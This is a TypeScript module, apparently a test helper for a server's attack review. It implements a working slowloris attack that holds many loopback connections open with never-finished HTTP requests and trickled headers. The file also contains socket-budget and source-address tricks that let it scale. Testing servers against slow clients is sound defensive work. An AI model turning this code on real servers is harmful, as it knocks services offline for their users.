import { readdirSync } from 'node:fs';
import net from 'node:net';
import { openFilesLimit } from '@chance/core';

/** Sockets this process may still open: its soft limit on open files less those open now, less a reserve. */
export function socketBudget(reserve = 1000): number {
  const limit = openFilesLimit() ?? 1024;
  return Math.max(0, limit - readdirSync('/proc/self/fd').length - reserve);
}

/**
 * A loopback address of its own (all of 127.0.0.0/8 is this machine), so that runs side by side
 * never share the ~28,000 ephemeral ports one source address has towards the server.
 */
export function randomLoopbackAddress(): string {
  const octet = (min: number, max: number) => min + Math.floor(Math.random() * (max - min + 1));
  return `127.${octet(1, 254)}.${octet(0, 255)}.${octet(2, 254)}`;
}

export interface Slowloris {
  /** sockets the attack opened */
  opened: number;
  /** sockets that could not connect at all */
  failed: number;
  /** sockets still open */
  open(): number;
  /** ends what is left with a reset (no TIME_WAIT left behind on this side) */
  stop(): void;
}

/**
 * The slowloris of the attack review: `count` connections from `localAddress`, each sending the
 * start of a request and then one more header line every `trickleMs`, never finishing it, the
 * way a slow client that holds a server's sockets does. Connects in waves, so the kernel's accept
 * queue is not what refuses them.
 */
export async function slowloris(
  port: number,
  { count, localAddress = randomLoopbackAddress(), trickleMs = 1000, wave = 250 }: { count: number; localAddress?: string; trickleMs?: number; wave?: number },
): Promise<Slowloris> {
  const sockets = new Set<net.Socket>();
  let failed = 0;
  const connectOne = () =>
    new Promise<void>((done) => {
      const socket = net.connect({ port, host: '127.0.0.1', localAddress });
      socket.setNoDelay(true);
      socket.resume(); // read whatever comes, so the server's close is seen
      socket.on('error', () => undefined);
      socket.once('connect', () => {
        sockets.add(socket);
        socket.write(`GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n`);
        done();
      });
      socket.once('close', () => {
        if (!sockets.delete(socket)) {
          failed++;
          done();
        }
      });
    });
  for (let started = 0; started < count; started += wave) {
    await Promise.all(Array.from({ length: Math.min(wave, count - started) }, connectOne));
  }
  let line = 0;
  const trickle = setInterval(() => {
    line++;
    for (const socket of sockets) if (socket.writable) socket.write(`X-Slow-${line}: ${line}\r\n`);
  }, trickleMs);
  return {
    opened: count - failed,
    failed,
    open: () => sockets.size,
    stop() {
      clearInterval(trickle);
      for (const socket of sockets) socket.resetAndDestroy();
      sockets.clear();
    },
  };
}
